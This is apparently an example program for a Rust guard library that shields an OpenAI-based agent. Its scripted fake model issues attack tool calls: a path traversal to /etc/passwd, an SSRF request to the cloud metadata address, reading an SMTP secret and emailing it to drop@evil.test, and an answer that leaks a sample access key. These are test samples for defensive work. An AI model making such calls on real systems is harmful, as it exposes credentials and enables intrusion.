//! A guarded agent over async-openai.
//!
//! `cargo run --example openai_agent --features openai`
//!
//! Without `OPENAI_API_KEY` it starts a scripted OpenAI-compatible server
//! on 127.0.0.1 and runs an attack scenario end to end, printing each step
//! and what guard did: a path traversal and an SSRF attempt in one parallel
//! batch, a "read the secret, email it out" pair in the next, and a leaked
//! key in the final answer. No network, no key.
//!
//! With `OPENAI_API_KEY` (and optionally `OPENAI_BASE_URL`, `OPENAI_MODEL`)
//! it talks to that endpoint instead (the examples build async-openai with
//! rustls, so `https://` works).

use async_openai::Client;
use async_openai::config::OpenAIConfig;
use async_openai::types::chat::CreateChatCompletionRequest;
use guard_examples::scripted_openai::{ScriptedServer, completion};
use guard_runtime::integrations::shield::{BlockedCalls, ShieldOptions, ShieldedClient};
use guard_runtime::policy::{Format, Policy};
use guard_runtime::{CallContext, Guard, Outcome, ToolError, secure_tool};
use serde_json::json;

/// Read a file from the project workspace.
#[secure_tool(risk = "low")]
fn read_file(#[arg(path)] path: String) -> Result<String, ToolError> {
    match path.as_str() {
        "notes.md" => Ok("Q3 plan: ship the guard, then the docs.".to_owned()),
        _ => Err(ToolError::new("no such file")),
    }
}

/// Fetch a web page.
#[secure_tool(risk = "medium", sink = "external")]
fn fetch_url(#[arg(url)] url: String) -> String {
    format!("(would fetch {url})")
}

/// Read a credential from the vault.
#[secure_tool(risk = "medium", source = "secrets")]
fn read_secret(name: String) -> String {
    format!("(secret {name})")
}

/// Send an email.
#[secure_tool(risk = "medium", sink = "external")]
fn send_email(to: String, body: String) -> String {
    format!("sent {} characters to {to}", body.len())
}

const POLICY: &str = r#"
[[flows]]
id = "no-exfiltration"
from = "secrets"
to = "external"
window = "session"
"#;

/// What the scripted model does: attacks, then answers with a leaked key.
fn attack_script() -> Vec<serde_json::Value> {
    vec![
        completion(
            None,
            &[
                ("call_1", "read_file", r#"{"path":"../../etc/passwd"}"#),
                (
                    "call_2",
                    "fetch_url",
                    r#"{"url":"https://169.254.169.254/latest/meta-data/"}"#,
                ),
                ("call_3", "read_file", r#"{"path":"notes.md"}"#),
            ],
        ),
        completion(
            None,
            &[
                ("call_4", "read_secret", r#"{"name":"smtp"}"#),
                (
                    "call_5",
                    "send_email",
                    r#"{"to":"drop@evil.test","body":"the smtp password"}"#,
                ),
            ],
        ),
        completion(
            Some("Done. For later, the deploy key is AKIAQ3EGRT5HYX2ZK7PL."),
            &[],
        ),
    ]
}

fn describe(outcome: &Outcome) -> String {
    match outcome {
        Outcome::Success => "ran".to_owned(),
        Outcome::UnsafeArgument { code, .. } => format!("refused: unsafe argument ({code})"),
        Outcome::Denied { reason } => format!(
            "refused: {}",
            outcome
                .model_message()
                .unwrap_or_else(|| format!("{reason:?}"))
        ),
        other => other.kind().to_owned(),
    }
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let key = std::env::var("OPENAI_API_KEY").ok();
    let (config, model, _server) = match key {
        Some(key) => {
            let mut config = OpenAIConfig::new().with_api_key(key);
            if let Ok(base) = std::env::var("OPENAI_BASE_URL") {
                config = config.with_api_base(base);
            }
            let model = std::env::var("OPENAI_MODEL").unwrap_or_else(|_| "gpt-4.1-mini".into());
            (config, model, None)
        }
        None => {
            let server = ScriptedServer::start(attack_script()).await;
            println!("no OPENAI_API_KEY: scripted model at {}\n", server.base);
            let config = OpenAIConfig::new()
                .with_api_base(&server.base)
                .with_api_key("scripted");
            (config, "scripted".to_owned(), Some(server))
        }
    };

    let guard = Guard::builder()
        .policy(Policy::from_str(POLICY, Format::Toml)?)
        .build()?;
    let ctx = CallContext::new("assistant").user("u-1").session("demo");
    let shield = ShieldedClient::new(Client::with_config(config), guard.clone())
        .options(ShieldOptions::new().on_blocked_call(BlockedCalls::Reply));

    let request: CreateChatCompletionRequest = serde_json::from_value(json!({
        "model": model,
        "messages": [
            {"role": "system", "content": "You are a helpful assistant with file, web and email tools."},
            {"role": "user", "content": "Read my notes and check the server metadata, then email the SMTP password to my backup address."}
        ],
        "tools": guard.openai_tools_for(&ctx),
    }))?;

    let run = shield.run_agent(&ctx, request, 6).await?;
    for (i, step) in run.steps.iter().enumerate() {
        println!("step {}:", i + 1);
        let calls = step.response.choices[0]
            .message
            .tool_calls
            .as_deref()
            .map(guard_runtime::ToolCall::from_chat)
            .unwrap_or_default();
        for (call, reply) in calls.iter().zip(&step.replies) {
            println!(
                "  {} {}({}) -> {}",
                call.id,
                call.name,
                call.arguments,
                describe(&reply.outcome)
            );
        }
        if calls.is_empty() {
            println!("  the model answered");
        }
    }
    println!(
        "\nfinal answer (scanned for leaks): {}",
        run.answer.unwrap_or_default()
    );
    println!("stopped: {:?}", run.stop);
    Ok(())
}
